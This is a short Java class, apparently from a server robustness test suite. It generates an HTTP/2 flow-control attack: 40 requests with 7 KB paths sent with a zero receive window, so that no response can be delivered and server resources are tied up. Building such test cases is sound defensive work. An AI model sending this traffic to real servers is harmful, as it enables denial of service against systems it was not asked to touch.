package io.kubeecho.hostile.attack;

/** Answers that wait for a window which stays shut. */
final class ClosedWindow implements Attack {

    private static final int REQUESTS = 40;

    private final byte[] opening = requests();

    private static byte[] requests() {
        Http2Bytes bytes = new Http2Bytes(0);
        for (int i = 0; i < REQUESTS; i++) {
            bytes.get(2 * i + 1, "/" + "p".repeat(7_000));
        }
        return bytes.bytes();
    }

    @Override
    public String name() {
        return "closed-window";
    }

    @Override
    public String does() {
        return "40 HTTP/2 requests with paths of 7 KB, and a window of 0: no answer can be sent";
    }

    @Override
    public Door door() {
        return Door.H2C;
    }

    @Override
    public byte[] opening() {
        return opening;
    }
}
